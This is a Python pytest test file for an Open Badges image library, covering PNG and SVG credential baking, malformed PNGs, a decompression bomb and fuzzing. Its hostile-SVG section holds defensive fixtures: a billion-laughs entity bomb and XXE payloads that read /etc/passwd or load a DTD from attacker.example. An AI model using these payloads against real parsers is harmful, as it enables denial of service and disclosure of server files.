"""Baking: OB 3.0 bake/unbake round trips, the OB 2.0 baked images in the shared vectors,
and hostile images (XML bombs, XXE, broken PNGs) that must fail with a clear code."""

from __future__ import annotations

import contextlib
import io
import json
import struct
import zlib
from pathlib import Path
from typing import Any
from xml.dom import minidom

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from insignia.core.baking import (
    OB2_PNG_KEYWORD,
    BakedPayload,
    bake_png,
    bake_svg,
    unbake,
)
from insignia.core.baking.png import PNG_SIGNATURE, Chunk, parse_png
from insignia.core.errors import BakingError

JSON_CREDENTIAL = json.dumps(
    {
        "@context": ["https://www.w3.org/ns/credentials/v2"],
        "type": ["VerifiableCredential", "OpenBadgeCredential"],
        "name": "Tricky ]]> name & <b>",
        "description": "Ünïcödé ✓",
    },
    ensure_ascii=False,
)
JWS = "eyJhbGciOiJFZERTQSJ9.eyJpc3MiOiJkaWQ6a2V5OnoifQ.c2lnbmF0dXJl"


def _png(vectors: Path) -> bytes:
    return (vectors / "ob2-concentricsky-openbadges-bakery/public_domain_heart.png").read_bytes()


def _svg(vectors: Path) -> bytes:
    return (vectors / "ob2-mozilla-openbadges-bakery/unbaked.svg").read_bytes()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return Chunk(kind, data).to_bytes()


def _tiny_png() -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (2, 2), (200, 30, 30)).save(buf, "PNG")
    return buf.getvalue()


# -- the OB 2.0 images in the shared vectors --------------------------------------------------


@pytest.mark.parametrize(
    ("name", "image_type", "kind", "fragment"),
    [
        ("ob2-concentricsky-openbadges-bakery/baked_heart.png", "png", "json", '"uid":"123"'),
        ("ob2-1edtech-validator-core/baked_heart_a0a5385.png", "png", "json", "beths-robotics"),
        ("ob2-concentricsky-openbadges-bakery/baked_example.svg", "svg", "json", "abcdef12345"),
        ("ob2-mozilla-openbadges-bakery/baked.svg", "svg", "json", "example.org"),
        ("ob2-mozilla-openbadges-bakery/no-json.svg", "svg", "url", "http://example.org"),
    ],
)
def test_ob2_baked_vectors(
    vectors: Path, name: str, image_type: str, kind: str, fragment: str
) -> None:
    found = unbake((vectors / name).read_bytes())
    assert (found.image_type, found.version, found.kind) == (image_type, "ob2", kind)
    assert fragment in found.payload
    assert found.payload == found.payload.strip()
    if kind == "json":
        json.loads(found.payload)


def test_ob2_svg_with_invalid_json_is_an_error(vectors: Path) -> None:
    with pytest.raises(BakingError) as err:
        unbake((vectors / "ob2-mozilla-openbadges-bakery/bad-json.svg").read_bytes())
    assert err.value.code == "bake.invalid_json"


@pytest.mark.parametrize(
    "name",
    [
        "ob2-mozilla-openbadges-bakery/unbaked.png",
        "ob2-mozilla-openbadges-bakery/unbaked.svg",
        "ob2-concentricsky-openbadges-bakery/public_domain_heart.png",
        "ob2-concentricsky-openbadges-bakery/unbaked_example.svg",
        "ob2-1edtech-validator-core/public_domain_heart.png",
    ],
)
def test_unbaked_images_say_not_baked(vectors: Path, name: str) -> None:
    with pytest.raises(BakingError) as err:
        unbake((vectors / name).read_bytes())
    assert err.value.code == "bake.not_baked"


def test_no_ob3_baked_samples_in_vectors(vectors: Path) -> None:
    """SOURCES.md lists no 1EdTech OB 3.0 baked images; this notes it so a later addition
    gets tests (the 1EdTech validator's simple-jwt.png/svg would be the ones to add)."""
    assert not [
        p for p in vectors.rglob("*") if p.suffix in {".png", ".svg"} and "ob2" not in str(p)
    ]


# -- PNG round trips ---------------------------------------------------------------------------


@pytest.mark.parametrize(("payload", "kind"), [(JSON_CREDENTIAL, "json"), (JWS, "jws")])
def test_png_round_trip(vectors: Path, payload: str, kind: Any) -> None:
    baked = bake_png(_png(vectors), payload)
    assert unbake(baked) == BakedPayload("png", "ob3", payload, kind)
    image = Image.open(io.BytesIO(baked))
    image.load()  # Pillow still decodes it (and checks the CRCs as it goes)
    assert image.size == (21, 19)
    assert image.info["openbadgecredential"] == payload


def test_png_chunk_is_uncompressed_itxt_just_before_iend(vectors: Path) -> None:
    chunks = parse_png(bake_png(_png(vectors), JWS))
    assert [c.type for c in chunks][-2:] == [b"iTXt", b"IEND"]
    assert chunks[-2].data == b"openbadgecredential\0\0\0\0\0" + JWS.encode()


def test_png_rebake_replaces_rather_than_duplicates(vectors: Path) -> None:
    once = bake_png(_png(vectors), JSON_CREDENTIAL)
    twice = bake_png(once, JWS)
    texts = [c for c in parse_png(twice) if c.type == b"iTXt"]
    assert len(texts) == 1
    assert unbake(twice).payload == JWS


def test_png_keeps_other_chunks_and_an_ob2_assertion(vectors: Path) -> None:
    original = (vectors / "ob2-concentricsky-openbadges-bakery/baked_heart.png").read_bytes()
    baked = bake_png(original, JSON_CREDENTIAL)
    before = [c for c in parse_png(original) if c.type != b"IEND"]
    after = parse_png(baked)
    assert after[: len(before)] == before
    assert unbake(baked).version == "ob3"  # OB 3.0 wins when both are present


def test_ob2_keyword_can_bake_a_hosted_url(vectors: Path) -> None:
    baked = bake_png(_png(vectors), "https://example.org/assertion/1", keyword=OB2_PNG_KEYWORD)
    assert unbake(baked) == BakedPayload("png", "ob2", "https://example.org/assertion/1", "url")


def test_compressed_itxt_is_read(vectors: Path) -> None:
    body = b"openbadgecredential\0\x01\x00\0\0" + zlib.compress(JSON_CREDENTIAL.encode())
    png = _insert_before_iend(_png(vectors), _chunk(b"iTXt", body))
    assert unbake(png).payload == JSON_CREDENTIAL


def test_compressed_itxt_bomb_is_refused(vectors: Path) -> None:
    body = b"openbadgecredential\0\x01\x00\0\0" + zlib.compress(b"{" + b" " * (64 << 20), 9)
    png = _insert_before_iend(_png(vectors), _chunk(b"iTXt", body))
    with pytest.raises(BakingError) as err:
        unbake(png)
    assert err.value.code == "bake.too_large"


def test_legacy_text_chunk_with_url_is_ob2(vectors: Path) -> None:
    png = _insert_before_iend(_png(vectors), _chunk(b"tEXt", b"openbadges\0https://e.org/a/1"))
    assert unbake(png) == BakedPayload("png", "ob2", "https://e.org/a/1", "url")


@pytest.mark.parametrize(
    ("payload", "keyword", "code"),
    [
        ("", "openbadgecredential", "bake.bad_payload"),
        ("   ", "openbadgecredential", "bake.bad_payload"),
        ("https://example.org/a", "openbadgecredential", "bake.bad_payload"),
        ("{not json", "openbadgecredential", "bake.invalid_json"),
        ("[1, 2]", "openbadgecredential", "bake.unknown_payload"),
        (JWS, "", "bake.bad_keyword"),
        (JWS, "x" * 80, "bake.bad_keyword"),
        (JWS, " lead", "bake.bad_keyword"),
        (JWS, "snow☃", "bake.bad_keyword"),
    ],
)
def test_bake_png_rejects_bad_arguments(
    vectors: Path, payload: str, keyword: str, code: str
) -> None:
    with pytest.raises(BakingError) as err:
        bake_png(_png(vectors), payload, keyword=keyword)
    assert err.value.code == code


# -- hostile PNGs ------------------------------------------------------------------------------


def _insert_before_iend(png: bytes, chunk: bytes) -> bytes:
    return png[:-12] + chunk + png[-12:]


def test_truncated_png(vectors: Path) -> None:
    baked = bake_png(_png(vectors), JWS)
    for cut in (9, 20, 33, len(baked) // 2, len(baked) - 1):
        with pytest.raises(BakingError) as err:
            unbake(baked[:cut])
        assert err.value.code in {"bake.truncated", "bake.invalid_png"}


def test_wrong_crc(vectors: Path) -> None:
    baked = bytearray(bake_png(_png(vectors), JWS))
    baked[-20] ^= 0xFF  # inside the iTXt text
    with pytest.raises(BakingError) as err:
        unbake(bytes(baked))
    assert err.value.code == "bake.bad_crc"


def test_chunk_header_claiming_50_mb(vectors: Path) -> None:
    header = struct.pack(">I", 50 * 1024 * 1024) + b"iTXt" + b"openbadgecredential\0"
    with pytest.raises(BakingError) as err:
        unbake(_insert_before_iend(_png(vectors), header))
    assert err.value.code == "bake.truncated"


def test_chunk_length_beyond_png_limit(vectors: Path) -> None:
    png = _png(vectors)
    bad = png[:8] + b"\xff\xff\xff\xff" + png[12:]
    with pytest.raises(BakingError) as err:
        unbake(bad)
    assert err.value.code == "bake.invalid_png"


def test_png_must_start_with_ihdr() -> None:
    png = PNG_SIGNATURE + _chunk(b"tEXt", b"openbadges\0https://e.org") + _chunk(b"IEND", b"")
    with pytest.raises(BakingError) as err:
        unbake(png)
    assert err.value.code == "bake.invalid_png"


def test_non_utf8_itxt(vectors: Path) -> None:
    png = _insert_before_iend(_png(vectors), _chunk(b"iTXt", b"openbadgecredential\0\0\0\0\0\xff{"))
    with pytest.raises(BakingError) as err:
        unbake(png)
    assert err.value.code == "bake.invalid_text"


@pytest.mark.parametrize("junk", [b"", b"GIF89a....", b"\x00" * 100, b"%PDF-1.7", b"{}"])
def test_not_an_image(junk: bytes) -> None:
    with pytest.raises(BakingError) as err:
        unbake(junk)
    assert err.value.code == "bake.unknown_format"


def test_random_bytes_after_png_signature_fail_cleanly() -> None:
    with pytest.raises(BakingError):
        unbake(PNG_SIGNATURE + bytes(range(256)) * 4)


# -- SVG round trips ---------------------------------------------------------------------------


def _well_formed(svg: bytes) -> Any:
    return minidom.parseString(svg)  # no DTD/entities in our outputs, so minidom is safe here


@pytest.mark.parametrize(("payload", "kind"), [(JSON_CREDENTIAL, "json"), (JWS, "jws")])
def test_svg_round_trip(vectors: Path, payload: str, kind: Any) -> None:
    baked = bake_svg(_svg(vectors), payload)
    assert unbake(baked) == BakedPayload("svg", "ob3", payload, kind)
    doc = _well_formed(baked)
    root = doc.documentElement
    assert root.getAttribute("xmlns:openbadges") == "https://purl.imsglobal.org/ob/v3p0"
    first = root.firstChild
    assert first is not None and first.nodeName == "openbadges:credential"  # right after <svg>
    if kind == "jws":
        assert first.getAttribute("verify") == JWS and not first.childNodes
    else:
        assert (
            first.firstChild is not None and first.firstChild.nodeType == first.CDATA_SECTION_NODE
        )


def test_svg_rebake_replaces_rather_than_duplicates(vectors: Path) -> None:
    twice = bake_svg(bake_svg(_svg(vectors), JSON_CREDENTIAL), JWS)
    assert len(_well_formed(twice).getElementsByTagName("openbadges:credential")) == 1
    assert unbake(twice).payload == JWS
    thrice = bake_svg(twice, JSON_CREDENTIAL)
    assert unbake(thrice).payload == JSON_CREDENTIAL


def test_svg_keeps_the_artwork_bytes(vectors: Path) -> None:
    original = _svg(vectors)
    baked = bake_svg(original, JWS)
    tail = original[original.index(b"<title>") :]
    assert baked.endswith(tail)


def test_svg_next_to_an_ob2_assertion_declares_its_own_namespace(vectors: Path) -> None:
    original = (vectors / "ob2-mozilla-openbadges-bakery/baked.svg").read_bytes()
    baked = bake_svg(original, JWS)
    doc = _well_formed(baked)
    assert doc.documentElement.getAttribute("xmlns:openbadges") == "http://openbadges.org"
    [element] = doc.getElementsByTagName("openbadges:credential")
    assert element.getAttribute("xmlns:openbadges") == "https://purl.imsglobal.org/ob/v3p0"
    assert unbake(baked).version == "ob3"


def test_self_closing_svg_root() -> None:
    baked = bake_svg(b'<svg xmlns="http://www.w3.org/2000/svg" width="1"/>', JSON_CREDENTIAL)
    assert unbake(baked).payload == JSON_CREDENTIAL
    _well_formed(baked)


def test_svg_with_doctype_is_fine_but_never_fetched() -> None:
    svg = (
        b'<?xml version="1.0" encoding="utf-8"?>\n'
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
        b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>'
    )
    assert unbake(bake_svg(svg, JWS)).payload == JWS


def test_ob3_verify_attribute_is_read() -> None:
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" '
        b'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">'
        b'<openbadges:credential verify="' + JWS.encode() + b'"/></svg>'
    )
    assert unbake(svg) == BakedPayload("svg", "ob3", JWS, "jws")


@pytest.mark.parametrize(
    ("svg", "payload", "code"),
    [
        (b"<html/>", JWS, "bake.invalid_svg"),
        (b"<svg", JWS, "bake.invalid_svg"),
        (b'<?xml version="1.0" encoding="ISO-8859-1"?><svg/>', JWS, "bake.unsupported_encoding"),
        (b"<svg/>", "https://example.org/a", "bake.bad_payload"),
        (b"<svg/>", '{"a": "\ufffe"}', "bake.bad_payload"),
    ],
)
def test_bake_svg_rejects(svg: bytes, payload: str, code: str) -> None:
    with pytest.raises(BakingError) as err:
        bake_svg(svg, payload)
    assert err.value.code == code


# -- hostile SVGs ------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">
<openbadges:credential>&lol9;</openbadges:credential></svg>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">
<openbadges:assertion verify="https://e.org/a">&xxe;</openbadges:assertion></svg>"""

PARAMETER_XXE = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd"> %ext;]>
<svg xmlns="http://www.w3.org/2000/svg"/>"""

EXTERNAL_DTD_ENTITY = b"""<?xml version="1.0" standalone="no"?>
<!DOCTYPE svg SYSTEM "file:///etc/passwd">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">
<openbadges:assertion verify="https://e.org/a">&secret;</openbadges:assertion></svg>"""

UNPARSED = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!NOTATION png SYSTEM "image/png"><!ENTITY pic SYSTEM "x.png" NDATA png>]>
<svg xmlns="http://www.w3.org/2000/svg"/>"""


@pytest.mark.parametrize("svg", [BILLION_LAUGHS, XXE, PARAMETER_XXE, EXTERNAL_DTD_ENTITY, UNPARSED])
def test_hostile_xml_is_refused(svg: bytes) -> None:
    with pytest.raises(BakingError) as err:
        unbake(svg)
    assert err.value.code == "bake.hostile_xml"
    with pytest.raises(BakingError) as err:
        bake_svg(svg, JWS)
    assert err.value.code == "bake.hostile_xml"


def test_xxe_never_leaks_the_file() -> None:
    with pytest.raises(BakingError) as err:
        unbake(XXE)
    assert "root:" not in str(err.value.to_dict())


def test_oversized_svg_text_is_refused() -> None:
    big = (
        b'<svg xmlns="http://www.w3.org/2000/svg" '
        b'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"><openbadges:credential>'
        + b"{"
        + b" " * (5 * 1024 * 1024)
        + b"}</openbadges:credential></svg>"
    )
    with pytest.raises(BakingError) as err:
        unbake(big)
    assert err.value.code == "bake.too_large"


def test_image_size_limit() -> None:
    with pytest.raises(BakingError) as err:
        unbake(b"<svg>" + b" " * (33 * 1024 * 1024))
    assert err.value.code == "bake.too_large"


# -- properties --------------------------------------------------------------------------------

_json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(),
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=10), children, max_size=3)
    ),
    max_leaves=10,
)
_payloads = st.one_of(
    st.dictionaries(st.text(max_size=10), _json_values, max_size=5).map(
        lambda d: json.dumps(d, ensure_ascii=False)
    ),
    st.tuples(*[st.from_regex(r"[A-Za-z0-9_-]{1,40}", fullmatch=True)] * 3).map(".".join),
)


def _xml_safe(text: str) -> bool:
    return all(
        c in "\t\n\r" or "\x20" <= c <= "\ud7ff" or "\ue000" <= c <= "\ufffd" or c >= "\U00010000"
        for c in text
    )


@given(payload=_payloads)
@settings(max_examples=150, deadline=None)
def test_property_round_trip_png_and_svg(payload: str) -> None:
    png = bake_png(_tiny_png(), payload)
    assert unbake(png).payload == payload
    if _xml_safe(payload):
        svg = bake_svg(b'<svg xmlns="http://www.w3.org/2000/svg"><g/></svg>', payload)
        assert unbake(svg).payload == payload
        _well_formed(svg)


@given(st.binary(max_size=2048))
@settings(max_examples=400, deadline=None)
def test_property_random_bytes_only_raise_baking_errors(data: bytes) -> None:
    for candidate in (data, PNG_SIGNATURE + data, b"<svg " + data):
        with contextlib.suppress(BakingError):
            unbake(candidate)


@given(st.data())
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_property_mutated_baked_images_only_raise_baking_errors(data: st.DataObject) -> None:
    original = data.draw(
        st.sampled_from(
            [
                bake_png(_tiny_png(), JSON_CREDENTIAL),
                bake_svg(b'<svg xmlns="http://www.w3.org/2000/svg"/>', JSON_CREDENTIAL),
            ]
        )
    )
    mutated = bytearray(original)
    for _ in range(data.draw(st.integers(1, 8))):
        position = data.draw(st.integers(0, len(mutated) - 1))
        mutated[position] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(0, len(mutated)))
    try:
        found = unbake(bytes(mutated[:cut]))
    except BakingError:
        return
    assert found.kind in {"json", "jws", "url"}
